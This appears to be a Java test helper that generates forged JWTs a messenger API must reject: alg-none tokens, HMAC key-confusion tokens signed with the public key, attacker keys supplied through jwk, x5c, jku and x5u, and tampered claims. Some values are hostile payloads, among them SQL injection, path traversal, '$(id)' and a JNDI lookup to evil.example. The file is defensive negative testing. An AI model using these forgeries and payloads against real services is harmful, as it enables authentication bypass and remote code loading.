package dev.aimessenger.e2e.api;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Tokens that look like a good one and must not pass. Where a claim is wrong, the right key has signed it, so that
 * nothing but the check of this claim can refuse it.
 */
final class ForgedTokens {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String RS256 = "SHA256withRSA";

    private final Map<String, String> tokens = new LinkedHashMap<>();
    private final String good;
    private final Map<String, Object> header;
    private final Map<String, Object> claims;
    private final RSAKey key;

    private ForgedTokens(String good, Map<String, Object> header, Map<String, Object> claims, RSAKey key) {
        this.good = good;
        this.header = header;
        this.claims = claims;
        this.key = key;
    }

    /**
     * @param good a token that is accepted
     * @param key the key that signed it
     * @return forged tokens by what is wrong with them
     */
    @SuppressWarnings("unchecked")
    static Map<String, String> of(String good, RSAKey key) throws Exception {
        String[] parts = good.split("\\.");
        ForgedTokens forged = new ForgedTokens(
                good,
                JSON.readValue(Base64.getUrlDecoder().decode(parts[0]), Map.class),
                JSON.readValue(Base64.getUrlDecoder().decode(parts[1]), Map.class),
                key);
        forged.unsigned();
        forged.signedWithThePublicKey();
        forged.otherAlgorithms();
        forged.wrongClaims();
        forged.wrongHeaders();
        forged.otherKeys();
        forged.damaged();
        forged.tokens.values().removeIf(good::equals);
        return forged.tokens;
    }

    private void unsigned() throws Exception {
        String signature = good.substring(good.lastIndexOf('.') + 1);
        for (String none : List.of("none", "None", "NONE", "nOnE", "", "null")) {
            String content = content(with(header, "alg", none), claims);
            tokens.put("alg " + none + ", unsigned", content + ".");
            tokens.put("alg " + none + ", signature of another token", content + "." + signature);
        }
        tokens.put("no alg", content(with(header, "alg", null), claims) + "." + signature);
        tokens.put("RS256 without a signature", content(header, claims) + ".");
        tokens.put(
                "another user under the same signature", content(header, with(claims, "sub", "1")) + "." + signature);
    }

    private void signedWithThePublicKey() throws Exception {
        byte[] der = key.toPublicKey().getEncoded();
        String body = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("DER", der);
        secrets.put("PEM", utf8("-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----\n"));
        secrets.put(
                "PEM without last line end",
                utf8("-----BEGIN PUBLIC KEY-----\n" + body + "\n-----END PUBLIC KEY-----"));
        secrets.put("JWK", utf8(key.toPublicJWK().toJSONString()));
        secrets.put("JWK set", utf8(new JWKSet((JWK) key.toPublicJWK()).toString()));
        secrets.put("modulus", key.getModulus().decode());
        secrets.put("modulus in base64url", utf8(key.getModulus().toString()));
        secrets.put("key id", utf8(key.getKeyID()));
        for (Map.Entry<String, byte[]> secret : secrets.entrySet()) {
            for (String bits : List.of("256", "384", "512")) {
                String content = content(with(header, "alg", "HS" + bits), claims);
                tokens.put(
                        "HS" + bits + " by the public key as " + secret.getKey(),
                        hmac(content, bits, secret.getValue()));
            }
        }
    }

    private void otherAlgorithms() throws Exception {
        PrivateKey rsa = key.toPrivateKey();
        String signature = good.substring(good.lastIndexOf('.') + 1);
        tokens.put("RS384 by the right key", sign(with(header, "alg", "RS384"), claims, rsa, "SHA384withRSA"));
        tokens.put("RS512 by the right key", sign(with(header, "alg", "RS512"), claims, rsa, "SHA512withRSA"));
        tokens.put("RS1 by the right key", sign(with(header, "alg", "RS1"), claims, rsa, "SHA1withRSA"));
        tokens.put("RS256 that is SHA-1", sign(header, claims, rsa, "SHA1withRSA"));
        PrivateKey ec = keyPair("EC", 256).getPrivate();
        for (String alg :
                List.of("ES256", "ES384", "ES512", "ES256K", "EdDSA", "PS256", "PS384", "PS512", "rs256", "RS257")) {
            tokens.put(alg + " by an EC key", sign(with(header, "alg", alg), claims, ec, "SHA256withECDSA"));
            tokens.put(alg + " with the old signature", content(with(header, "alg", alg), claims) + "." + signature);
            tokens.put(alg + " with no signature", content(with(header, "alg", alg), claims) + ".");
        }
        tokens.put("ES256 of zeros", content(with(header, "alg", "ES256"), claims) + "." + base64(new byte[64]));
    }

    private void wrongClaims() throws Exception {
        long now = Instant.now().getEpochSecond();
        Map<String, List<?>> wrong = new LinkedHashMap<>();
        String issuer = String.valueOf(claims.get("iss"));
        wrong.put(
                "iss",
                List.of(
                        "",
                        "https://evil.example",
                        issuer + "/",
                        issuer.toUpperCase(),
                        issuer + ".evil.example",
                        5,
                        List.of(issuer),
                        Map.of()));
        wrong.put(
                "aud",
                List.of(
                        "",
                        "other",
                        List.of(),
                        List.of("other"),
                        "AIMESSENGER",
                        "aimessenger ",
                        List.of("aimessenger.evil"),
                        5));
        wrong.put("exp", List.of(0, -1, 1, now - 1, now - 30, now - 3_600, "never", List.of(), Map.of()));
        wrong.put("nbf", List.of(now + 60, now + 3_600, now + 86_400L * 365, "later"));
        wrong.put(
                "sub",
                List.of(
                        "",
                        "0",
                        "-1",
                        "abc",
                        " 1",
                        "1 ",
                        "1.0",
                        "1e3",
                        "0x1",
                        "01",
                        "9999999999999999999",
                        "1;2",
                        "1' OR '1'='1",
                        "admin@example.org",
                        "1\u0000",
                        "\u0661",
                        Map.of(),
                        List.of(1)));
        for (Map.Entry<String, List<?>> claim : wrong.entrySet()) {
            for (Object value : claim.getValue()) {
                tokens.put(
                        claim.getKey() + " is " + value + " ("
                                + value.getClass().getSimpleName() + ")",
                        resigned(header, with(claims, claim.getKey(), value)));
            }
        }
        for (String name : List.of("iss", "aud", "exp", "sub")) {
            tokens.put("no " + name, resigned(header, with(claims, name, null)));
        }
        tokens.put("no claims", resigned(header, Map.of()));
    }

    private void wrongHeaders() throws Exception {
        for (String type : List.of("", "JWT", "jwt", "at", "rt+jwt", "id+jwt", "at+jwt ", "application/json")) {
            tokens.put("typ is " + type, resigned(with(header, "typ", type), claims));
        }
        tokens.put("no typ", resigned(with(header, "typ", null), claims));
        tokens.put("crit", resigned(with(with(header, "crit", List.of("x-evil")), "x-evil", true), claims));
        for (String kid : List.of(
                "unknown",
                "",
                "../../../../dev/null",
                "/dev/null",
                "' OR '1'='1",
                "x' UNION SELECT 'secret'--",
                "\u0000",
                "$(id)",
                "${jndi:ldap://evil.example/a}",
                "http://evil.example/keys",
                "k".repeat(2_000))) {
            Map<String, Object> named = with(header, "kid", kid);
            if (!kid.isEmpty()) {
                tokens.put("kid is " + kid + ", right key", resigned(named, claims));
            }
            tokens.put(
                    "kid is " + kid + ", HS256 by nothing",
                    hmac(content(with(named, "alg", "HS256"), claims), "256", new byte[1]));
        }
    }

    private void otherKeys() throws Exception {
        KeyPair thief = keyPair("RSA", 2_048);
        Map<String, Object> jwk = new RSAKey.Builder((RSAPublicKey) thief.getPublic())
                .keyID(key.getKeyID())
                .build()
                .toJSONObject();
        tokens.put("another key, the same kid", sign(header, claims, thief.getPrivate(), RS256));
        tokens.put("another key, no kid", sign(with(header, "kid", null), claims, thief.getPrivate(), RS256));
        tokens.put("another key in jwk", sign(with(header, "jwk", jwk), claims, thief.getPrivate(), RS256));
        tokens.put(
                "another key in jwk, no kid",
                sign(with(with(header, "jwk", jwk), "kid", null), claims, thief.getPrivate(), RS256));
        tokens.put(
                "another key in x5c",
                sign(
                        with(
                                header,
                                "x5c",
                                List.of(Base64.getEncoder()
                                        .encodeToString(thief.getPublic().getEncoded()))),
                        claims,
                        thief.getPrivate(),
                        RS256));
        for (String name : List.of("jku", "x5u")) {
            for (String url : List.of(
                    "http://evil.example/keys",
                    "https://evil.example/.well-known/jwks.json",
                    "file:///dev/null",
                    "http://localhost:1/keys",
                    "data:application/json,{}")) {
                tokens.put(name + " " + url, sign(with(header, name, url), claims, thief.getPrivate(), RS256));
            }
        }
    }

    private void damaged() {
        for (int i = 1; i <= 60; i++) {
            int length = (int) ((long) good.length() * i / 61);
            tokens.put("cut after " + length, good.substring(0, length));
        }
        int payload = good.indexOf('.') + 1;
        int signature = good.lastIndexOf('.') + 1;
        flip("header", 0, payload - 1, 20);
        flip("payload", payload, signature - 1, 40);
        flip("signature", signature, good.length(), 60);
        tokens.put("a part more", good + ".e30");
        tokens.put("two parts", good.substring(0, signature - 1));
        tokens.put("dots", "..");
        tokens.put("text", "token");
        tokens.put("signature twice", good + good.substring(signature));
        tokens.put("parts in another order", good.substring(payload) + "." + good.substring(0, payload - 1));
    }

    /** Changes one bit of the bytes that these letters stand for, at so many places. */
    private void flip(String part, int from, int to, int places) {
        byte[] bytes = Base64.getUrlDecoder().decode(good.substring(from, to));
        for (int i = 0; i < places; i++) {
            int place = bytes.length * i / places;
            byte[] changed = Arrays.copyOf(bytes, bytes.length);
            changed[place] ^= (byte) (1 << (i % 8));
            tokens.put(
                    part + " with bit " + i % 8 + " of byte " + place + " flipped",
                    good.substring(0, from) + base64(changed) + good.substring(to));
        }
    }

    private String resigned(Map<String, Object> newHeader, Map<String, Object> newClaims) throws Exception {
        return sign(newHeader, newClaims, key.toPrivateKey(), RS256);
    }

    private static String sign(Map<String, Object> header, Map<String, Object> claims, PrivateKey key, String algorithm)
            throws GeneralSecurityException, JsonProcessingException {
        String content = content(header, claims);
        Signature signature = Signature.getInstance(algorithm);
        signature.initSign(key);
        signature.update(utf8(content));
        return content + "." + base64(signature.sign());
    }

    private static String hmac(String content, String bits, byte[] secret) throws GeneralSecurityException {
        Mac mac = Mac.getInstance("HmacSHA" + bits);
        mac.init(new SecretKeySpec(secret, "HmacSHA" + bits));
        return content + "." + base64(mac.doFinal(utf8(content)));
    }

    private static String content(Map<String, Object> header, Map<String, Object> claims)
            throws JsonProcessingException {
        return base64(JSON.writeValueAsBytes(header)) + "." + base64(JSON.writeValueAsBytes(claims));
    }

    /** A copy with this value, or without the name where the value is null. */
    private static Map<String, Object> with(Map<String, Object> map, String name, Object value) {
        Map<String, Object> copy = new LinkedHashMap<>(map);
        if (value == null) {
            copy.remove(name);
        } else {
            copy.put(name, value);
        }
        return copy;
    }

    private static KeyPair keyPair(String algorithm, int bits) throws GeneralSecurityException {
        KeyPairGenerator generator = KeyPairGenerator.getInstance(algorithm);
        generator.initialize(bits);
        return generator.generateKeyPair();
    }

    private static String base64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
